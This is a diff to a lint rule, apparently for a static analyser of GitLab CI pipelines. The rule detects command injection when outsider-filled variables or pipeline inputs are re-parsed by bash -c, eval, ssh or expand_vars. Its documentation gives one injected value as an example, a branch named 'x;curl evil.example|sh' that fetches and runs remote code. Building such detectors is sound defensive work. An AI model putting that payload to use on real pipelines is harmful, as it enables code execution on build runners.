@@ -1,8 +1,13 @@
-import { isUntrustedVariable } from '../../server/core/model/gitlab/untrusted.ts';
+import {
+  type GitlabInput,
+  inputUsesIn,
+  outsiderVariable,
+  taintedInput,
+} from '../../server/core/model/gitlab/input.ts';
 import { isShellName } from '../../server/core/parse/shell/nested.ts';
 import { operandsOf } from '../../server/core/parse/shell/query.ts';
-import type { Command, Word } from '../../server/core/parse/shell.ts';
-import { defineRule } from '../../server/core/rule.ts';
+import type { Command, Script, Word } from '../../server/core/parse/shell.ts';
+import { type Context, defineRule } from '../../server/core/rule.ts';
 
 const HINT = /\beval\b|\bssh\b|-[a-z]*[ce]\b/;
 /** Options of ssh that take a value. */
@@ -46,6 +51,9 @@ export default defineRule({
     Reports variables that a pusher or the author of a merge request fills (branch, tag, title, message, user name) in
     text that a further shell or interpreter reads: \`bash -c "…"\`, \`eval\`, \`ssh host "…"\`, \`python -c "…"\`.
 
+    Also inputs (\`$[[ inputs.name ]]\`) whose default or whose value in the \`include\` of the repository's own pipeline is
+    such a variable: there, and in any script where \`expand_vars\` puts the text in before the shell reads it.
+
     ## Why is this bad?
     The variable is replaced first and the result is parsed again, so a branch called \`x;curl evil.example|sh\` runs.
     Quotes inside the outer quotes do not help: the name may hold quotes too.
@@ -67,14 +75,17 @@ export default defineRule({
   `,
   check: {
     script(ctx, script) {
-      if (!/CI_|GITLAB_USER/.test(script.text) || !HINT.test(script.text)) return;
+      const inputs = script.text.includes('$[[') ? (ctx.document.facet('gitlab')[0]?.inputs ?? []) : [];
+      if (inputs.length > 0) reportExpanded(ctx, script, inputs);
+      if (!/CI_|GITLAB_USER|\$\[\[/.test(script.text) || !HINT.test(script.text)) return;
       for (const command of script.commands) {
         for (const word of codeOf(command)) {
           for (const piece of word.pieces) {
-            if (piece.kind !== 'variable' || !isUntrustedVariable(piece.name)) continue;
+            const name = outsiderVariable(piece, inputs);
+            if (name === undefined) continue;
             ctx.report({
               span: script.spanOf(piece),
-              message: `An outsider fills \`${piece.name}\`, and here it is parsed as code; hand it over as an argument.`,
+              message: `An outsider fills \`${name}\`, and here it is parsed as code; hand it over as an argument.`,
             });
           }
         }
@@ -82,6 +93,21 @@ export default defineRule({
     },
   },
 });
+
+/** What is put in as text, wherever it stands and whatever quotes are around it. */
+function reportExpanded(ctx: Context, script: Script, inputs: readonly GitlabInput[]): void {
+  for (const use of inputUsesIn(script.text)) {
+    const tainted = use.expands && !use.escapes ? taintedInput(inputs, use.name) : undefined;
+    if (!tainted) continue;
+    ctx.report({
+      span: script.spanOf({ from: use.start, to: use.end }),
+      message: `An outsider's text (\`${tainted.variable}\`) becomes a part of this script; leave \`expand_vars\` out and quote it.`,
+      related: [
+        { span: tainted.value.node.span, source: tainted.value.source, message: 'it comes from here' },
+      ],
+    });
+  }
+}
 
 /** The words whose text is parsed once more. */
 function codeOf({ name, args, place }: Command): readonly Word[] {
